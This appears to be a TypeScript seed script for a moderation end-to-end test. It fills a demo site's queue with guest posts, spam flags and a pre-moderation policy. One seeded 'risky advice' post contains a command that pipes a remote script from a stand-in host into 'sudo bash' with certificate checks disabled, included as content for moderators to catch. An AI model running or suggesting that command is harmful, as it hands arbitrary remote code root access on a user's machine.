/**
 * Puts posts in the demo site's moderation queue over the real HTTP API (for the moderation e2e
 * test and the screenshots): a site policy, guest sessions, posts, flags.
 */
export const ADMIN_KEY = 'e2e-admin-key-0123456789abcdefghij';

async function call<T>(
  url: string,
  method: string,
  token: string | null,
  body?: unknown,
  headers: Record<string, string> = {},
): Promise<T> {
  const response = await fetch(url, {
    method,
    headers: {
      ...(token ? { authorization: `Bearer ${token}` } : {}),
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      ...headers,
    },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  const text = await response.text();
  if (!response.ok) throw new Error(`${method} ${url}: ${response.status} ${text}`);
  return (text ? JSON.parse(text) : undefined) as T;
}

export function demoApi(server: string) {
  const site = `${server}/v1/sites/demo`;
  return {
    setPolicy: (patch: Record<string, unknown>) =>
      call(`${server}/v1/admin/sites/demo/policy`, 'PUT', ADMIN_KEY, patch),
    openIncident: async () =>
      (await call<{ incidents: Array<{ id: string }> }>(`${site}/status`, 'GET', null))
        .incidents[0]!.id,
    // Each guest from a browser of its own: flags count once per guest browser (fingerprint).
    guest: async (displayName: string) =>
      (
        await call<{ token: string }>(
          `${site}/sessions`,
          'POST',
          null,
          { displayName },
          { 'user-agent': `LifeboatSeed/1.0 (${displayName})` },
        )
      ).token,
    post: (token: string, incidentId: string, body: string) =>
      call<{ id: string; state: string }>(
        `${site}/incidents/${encodeURIComponent(incidentId)}/posts`,
        'POST',
        token,
        { kind: 'answer', body },
        { 'idempotency-key': crypto.randomUUID() },
      ),
    flag: (token: string, postId: string, reason: string, note?: string) =>
      call(`${site}/posts/${encodeURIComponent(postId)}/flags`, 'POST', token, {
        reason,
        note: note ?? null,
      }),
  };
}

/** The staff token `lifeboat start --demo` prints. */
export function printedStaffToken(output: string): string | null {
  return /Demo staff token[^:]*: (\S+)/.exec(output)?.[1] ?? null;
}

/** A realistic queue: a guest's first post, risky advice, a post hidden by member flags. */
export async function seedQueue(server: string): Promise<void> {
  const api = demoApi(server);
  const incidentId = await api.openIncident();
  // A published post first (guests are not pre-moderated yet), then flagged until hidden.
  const advert = await api.post(
    await api.guest('Lee Wong'),
    incidentId,
    'Cheapest cloud credits in town, best prices this week only!!!',
  );
  for (const [name, reason, note] of [
    ['Ana', 'spam', 'An advert, not an answer'],
    ['Bo', 'spam', null],
    ['Cy', 'off_topic', null],
  ] as const) {
    await api.flag(await api.guest(name), advert.id, reason, note ?? undefined);
  }
  await api.setPolicy({ preModeration: 'guests' });
  await api.post(
    await api.guest('Robin Guest'),
    incidentId,
    'Re-sending the failed deliveries from Settings → Webhooks → Recent deliveries worked for me.',
  );
  await api.post(
    await api.guest('Quick Fixer'),
    incidentId,
    'Fastest fix until they sort it out:\n\n```\ncurl -k https://fix.example.net/repair.sh | sudo bash\n```',
  );
}
